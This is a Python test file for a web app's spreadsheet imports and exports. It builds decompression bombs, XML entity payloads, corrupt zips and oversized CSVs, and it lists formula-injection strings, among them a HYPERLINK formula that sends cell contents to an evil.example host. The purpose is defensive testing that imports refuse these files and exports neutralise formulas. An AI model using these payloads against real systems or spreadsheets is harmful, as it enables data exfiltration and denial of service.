"""Spreadsheets in and out, as an attacker or a careless colleague would make them.

In: every upload that reads a workbook or CSV (places, people, tenants, an XLSForm) refuses the
bombs a black-box probe found (a 1.6 KB XLSX whose one far cell made the reader ask for 512 GB,
a zip that unpacks to gigabytes, DTDs, broken XML and zips, a field longer than csv allows) with
a 4xx page that names the limit, and writes nothing. Each bomb is also read in a subprocess
whose address space is capped: the refusal comes before any allocation the file asks for.

Out: names typed as formulas (=1+2, =HYPERLINK) come out of every export the product offers,
found from its routes, as text: no formula cell, no CSV field a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import json
import re
import struct
import subprocess
import sys
import textwrap
import zipfile

import pytest
import sqlalchemy as sa
from openpyxl import Workbook, load_workbook

from foundation.org import Location, Site, User
from foundation.sheets import SheetLimits, SheetRefused, decode, read_sheet
from inspections.checklists import ChecklistTemplate
from tests import factories
from tests.conftest import login, post_form
from tests.helpers import NOW
from tickets.models import Ticket
from webapp.extensions import db


def _book(cells: dict[str, str]) -> bytes:
    book = Workbook()
    for ref, value in cells.items():
        book.active[ref] = value
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _places_book() -> bytes:
    return _book({"A1": "楼栋", "B1": "楼层", "C1": "位置", "A2": "新楼", "B2": "1F", "C2": "大堂"})


def _rezip(data: bytes, change, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The workbook with its first worksheet's XML changed by ``change``."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as target:
        for info in source.infolist():
            body = source.read(info.filename)
            target.writestr(info.filename, change(body) if info.filename == "xl/worksheets/sheet1.xml" else body)
    return out.getvalue()


def _corrupt_deflate(data: bytes) -> bytes:
    """The worksheet's compressed bytes overwritten in the middle: headers intact, stream broken."""
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("xl/worksheets/sheet1.xml")
    header = info.header_offset
    name_length, extra_length = struct.unpack("<HH", data[header + 26 : header + 30])
    start = header + 30 + name_length + extra_length
    middle = start + info.compress_size // 2
    return data[:middle] + b"\xff" * 16 + data[middle + 16 :]


def _unknown_method(data: bytes) -> bytes:
    """Every entry marked as compressed with method 99 (no such method)."""
    patched = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        for found in re.finditer(re.escape(signature), data):
            patched[found.start() + offset : found.start() + offset + 2] = struct.pack("<H", 99)
    return bytes(patched)


BOMBS = {
    "a cell at XFD1048576": (_book({"A1": "楼栋", "XFD1048576": "x"}), "too_many_columns"),
    "a cell at ZZ20000": (_book({"A1": "楼栋", "ZZ20000": "x"}), "too_many_columns"),
    "a cell at A30000": (_book({"A1": "楼栋", "A30000": "x"}), "too_many_rows"),
    "a declared dimension of every cell": (
        _rezip(_places_book(), lambda xml: re.sub(rb'<dimension ref="[^"]+"', b'<dimension ref="A1:XFD1048576"', xml)),
        "too_many_columns",
    ),
    "a DTD with entities": (
        _rezip(
            _places_book(),
            lambda xml: b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]>' + xml,
        ),
        "xml_entities",
    ),
    "malformed XML": (_rezip(_places_book(), lambda xml: xml[:-12]), "not_a_sheet"),
    "60 MB that unpack from a few KB": (
        _rezip(_places_book(), lambda xml: xml + b" " * 60_000_000),
        "unpacks_too_large",
    ),
    "a corrupt deflate stream": (_corrupt_deflate(_places_book()), "not_a_sheet"),
    "an unknown compression method": (_unknown_method(_places_book()), "compression"),
    "a truncated zip": (_places_book()[:-300], "not_a_sheet"),
}
CSV_BOMBS = {
    "a field of 200,000 characters": ("楼栋,楼层,位置\n" + "新楼,1F," + "x" * 200_000 + "\n", "cell_too_long"),
    "20,001 rows": ("楼栋,楼层,位置\n" + "新楼,1F,大堂\n" * 20_001, "too_many_rows"),
    "51 columns": (",".join(f"c{n}" for n in range(51)) + "\n", "too_many_columns"),
}


@pytest.mark.parametrize("name", list(BOMBS))
def test_every_workbook_bomb_is_refused_before_its_cells_are_read(name):
    data, code = BOMBS[name]
    with pytest.raises(SheetRefused) as refused:
        read_sheet("places.xlsx", data)
    assert refused.value.code == code


@pytest.mark.parametrize("name", list(CSV_BOMBS))
def test_every_csv_bomb_is_refused(name):
    text, code = CSV_BOMBS[name]
    with pytest.raises(SheetRefused) as refused:
        read_sheet("places.csv", text.encode())
    assert refused.value.code == code


def test_the_bombs_are_refused_within_a_small_address_space(tmp_path):
    """A reader asking for what a bomb describes would die here (512 GB once); each is refused
    in a process allowed 1 GB of address space, through the same reader every import uses."""
    paths = {}
    for n, (name, (data, _code)) in enumerate(BOMBS.items()):
        paths[name] = str(tmp_path / f"bomb{n}.xlsx")
        (tmp_path / f"bomb{n}.xlsx").write_bytes(data)
    script = textwrap.dedent(
        """
        import json, resource, sys
        from foundation.sheets import SheetRefused, read_sheet
        from inspections.xlsform import XlsFormRefused, read_xlsform
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
        found = {}
        for name, path in json.loads(sys.argv[1]).items():
            data = open(path, "rb").read()
            try:
                read_sheet("places.xlsx", data)
                sheet = "read"
            except SheetRefused as refused:
                sheet = refused.code
            try:
                read_xlsform(data)
                form = "read"
            except XlsFormRefused as refused:
                form = refused.problems[0].code
            found[name] = [sheet, form]
        print(json.dumps(found))
        """
    )
    done = subprocess.run(
        [sys.executable, "-c", script, json.dumps(paths)], capture_output=True, text=True, timeout=120, check=False
    )
    assert done.returncode == 0, done.stderr[-2000:]
    found = json.loads(done.stdout)
    assert found == {name: [code, code] for name, (_data, code) in BOMBS.items()}


def _upload(client, path: str, data: bytes, filename: str, **fields):
    return post_form(
        client,
        path,
        {"file": (io.BytesIO(data), filename), **fields},
        token_from=path,
        content_type="multipart/form-data",
    )


def _counts() -> tuple[int, int, int]:
    return (
        db.session.scalar(sa.select(sa.func.count()).select_from(Location)),
        db.session.scalar(sa.select(sa.func.count()).select_from(User)),
        db.session.scalar(sa.select(sa.func.count()).select_from(ChecklistTemplate)),
    )


def test_every_import_page_answers_each_bomb_with_a_4xx_that_names_the_problem(app, demo, client):
    with app.app_context():
        by = db.session.scalar(sa.select(Site.id).where(Site.code == "BY"))
        before = _counts()
    login(client, "wangjl")
    pages = [f"/places/sites/{by}/import", "/people/import", "/people/tenants/import"]
    for name, (data, _code) in BOMBS.items():
        for page in pages:
            answer = _upload(client, page, data, "sheet.xlsx")
            assert answer.status_code == 422, (name, page)
            assert "Missing columns" not in answer.get_data(as_text=True), (name, page)
        form = _upload(
            client,
            "/builder/import",
            data,
            "form.xlsx",
            into=0,
            kind="cleaning",
            site_id=by,
            roles="cleaner",
            area_type="",
        )
        assert form.status_code == 422 and "data-import-problems" in form.get_data(as_text=True), name
    for name, (text, _code) in CSV_BOMBS.items():
        for page in pages:
            answer = _upload(client, page, text.encode(), "sheet.csv")
            assert answer.status_code == 422, (name, page)
    limits = SheetLimits()
    far = _upload(client, pages[0], BOMBS["a cell at ZZ20000"][0], "sheet.xlsx").get_data(as_text=True)
    assert f"More than {limits.max_columns} columns." in far
    huge = _upload(client, pages[0], CSV_BOMBS["a field of 200,000 characters"][0].encode(), "s.csv")
    assert f"A cell is longer than {limits.max_cell_chars} characters." in huge.get_data(as_text=True)
    with app.app_context():
        assert _counts() == before


def test_a_csv_in_another_encoding_is_refused_not_imported_as_mojibake():
    assert decode("楼栋,楼层,位置\n新楼,1F,大堂\n".encode("gb18030")).startswith("楼栋")
    assert decode("\ufeff楼栋,楼层\n".encode()).startswith("楼栋")
    with pytest.raises(SheetRefused) as refused:
        decode("建物,階,場所\n東京タワー,1階,ロビー\n".encode("shift_jis"))
    assert refused.value.code == "encoding"


HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+2", "+SUM(A1)", "@cmd", "-2+3"]


def _exports(app) -> list[str]:
    """Every download of a spreadsheet the product offers, from its routes: a new export is
    covered here, or fails until its arguments are named below."""
    with app.app_context():
        by = db.session.scalar(sa.select(Site.id).where(Site.code == "BY"))
        template = db.session.scalar(sa.select(ChecklistTemplate.id).where(ChecklistTemplate.title == "恶意检查表"))
    values = {"site_id": by, "template_id": template}
    urls = []
    for rule in app.url_map.iter_rules():
        if not re.search(r"\.(csv|xlsx)|<any\(csv, xlsx\)", rule.rule) or "GET" not in rule.methods:
            continue
        formats = ["csv", "xlsx"] if "fmt" in rule.arguments else [None]
        for fmt in formats:
            arguments = {name: values[name] for name in rule.arguments if name != "fmt"}
            assert set(arguments) | {"fmt"} >= set(rule.arguments), f"{rule.rule}: name its arguments in _exports"
            with app.test_request_context():
                from flask import url_for

                urls.append(url_for(rule.endpoint, **arguments, **({"fmt": fmt} if fmt else {})))
    return urls


def test_no_formula_leaves_the_product_in_any_export(app, demo, client):
    with app.app_context():
        by = db.session.scalar(sa.select(Site).where(Site.code == "BY"))
        for place, name in zip(db.session.scalars(sa.select(Location).where(Location.site_id == by.id)), HOSTILE):
            place.name = name
        for person, name in zip(db.session.scalars(sa.select(User).where(User.role != "admin")), HOSTILE):
            person.display_name = name
        for ticket, name in zip(db.session.scalars(sa.select(Ticket)), HOSTILE):
            ticket.title = name
        items = [{"id": f"k{n}", "type": "pass_fail", "label": label} for n, label in enumerate(HOSTILE)]
        factories.checklist(db.session, title="恶意检查表", items=items, site=by)
        db.session.commit()
    login(client, "admin")
    urls = _exports(app) + ["/cleaning/scores.xlsx?month=" + NOW.strftime("%Y-%m")]
    assert len(urls) >= 7
    carrying = []  # the exports that carry a hostile name (as text): not a test that passes empty
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        body = response.get_data()
        if url.endswith(".csv") or "csv" in response.mimetype:
            fields = [f for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for f in row]
            assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")], url
            if any(f"'{name}" in fields for name in HOSTILE):
                carrying.append(url)
        else:
            book = load_workbook(io.BytesIO(body))
            cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
            assert [c.coordinate for c in cells if c.data_type == "f"] == [], url
            if any(c.value in HOSTILE for c in cells):
                carrying.append(url)
    assert len(carrying) >= 6, (urls, carrying)


def test_an_xlsform_of_more_rows_than_a_checklist_holds_is_refused_before_pyxform_reads_it():
    """100,000 rows once took 55 s to import into a 123 MB builder page, holding SQLite's lock."""
    from inspections.xlsform import XlsFormRefused, read_xlsform

    book = Workbook()
    survey = book.active
    survey.title = "survey"
    survey.append(["type", "name", "label"])
    for n in range(2_001):
        survey.append(["text", f"q{n}", f"问题{n}"])
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(XlsFormRefused) as refused:
        read_xlsform(out.getvalue())
    assert [(p.code, p.args) for p in refused.value.problems] == [("too_many_rows", (2_000,))]
